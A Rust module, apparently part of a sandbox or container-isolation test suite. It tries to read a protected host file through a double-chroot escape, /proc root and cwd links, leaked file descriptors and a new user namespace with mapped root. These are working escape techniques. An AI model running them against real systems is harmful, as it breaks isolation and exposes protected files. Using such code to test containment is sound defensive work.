//! Ways to another root, and to another user namespace.

use std::fs;

use nix::sched::{CloneFlags, unshare};
use nix::unistd::{chdir, chroot, getgid, getuid};

use super::{Tried, attack as any, errno};

/// The attacks of this file. `secret` is the host's path of a file that no container may read.
pub fn attack(name: &str, args: &[&str]) -> Option<Tried> {
    Some(match (name, args) {
        ("chroot", [secret]) => out_of_chroot(secret),
        ("proc-roots", [secret]) => through_links("root", secret),
        ("proc-directories", [secret]) => through_links("cwd", secret),
        ("descriptor-roots", [secret]) => through_descriptors(secret),
        ("in-user-namespace", rest) => user_namespace().and_then(|()| any(&rest.join(":"))),
        _ => return None,
    })
}

fn read(path: &str) -> Tried {
    fs::read_to_string(path).map_err(|error| errno(&error))
}

/// chroot(2) changes what `/` means and not where one stands; a second one lets go of the first.
fn out_of_chroot(secret: &str) -> Tried {
    let place = format!("/tmp/chroot-{}", std::process::id());
    fs::create_dir(&place).map_err(|error| errno(&error))?;
    chroot(place.as_str())?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")?;
    read(secret)
}

/// The root, or the directory, of every process that can be seen.
fn through_links(link: &str, secret: &str) -> Tried {
    let mut last = Ok("no process".to_owned());
    for entry in fs::read_dir("/proc").map_err(|error| errno(&error))?.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.parse::<u32>().is_err() {
            continue;
        }
        let up = if link == "cwd" { "/../../../../../../../.." } else { "" };
        last = read(&format!("/proc/{name}/{link}{up}{secret}"));
        if last.is_ok() {
            return last;
        }
    }
    last
}

/// What is left open by whoever made the container.
fn through_descriptors(secret: &str) -> Tried {
    let mut last = Ok("no descriptor".to_owned());
    for number in 0..256 {
        for path in
            [format!("/proc/self/fd/{number}{secret}"), format!("/proc/self/fd/{number}/../../../../..{secret}")]
        {
            last = read(&path);
            if last.is_ok() {
                return last;
            }
        }
    }
    last
}

/// A new user namespace, where this process has every capability, and new ones of every other kind.
fn user_namespace() -> Result<(), nix::errno::Errno> {
    let (uid, gid) = (getuid(), getgid());
    unshare(CloneFlags::CLONE_NEWUSER)?;
    for (file, text) in
        [("setgroups", "deny".into()), ("uid_map", format!("0 {uid} 1")), ("gid_map", format!("0 {gid} 1"))]
    {
        fs::write(format!("/proc/self/{file}"), text).map_err(|error| errno(&error))?;
    }
    let rest =
        [CloneFlags::CLONE_NEWNS, CloneFlags::CLONE_NEWNET, CloneFlags::CLONE_NEWIPC, CloneFlags::CLONE_NEWCGROUP];
    unshare(rest.into_iter().fold(CloneFlags::empty(), CloneFlags::union))
}
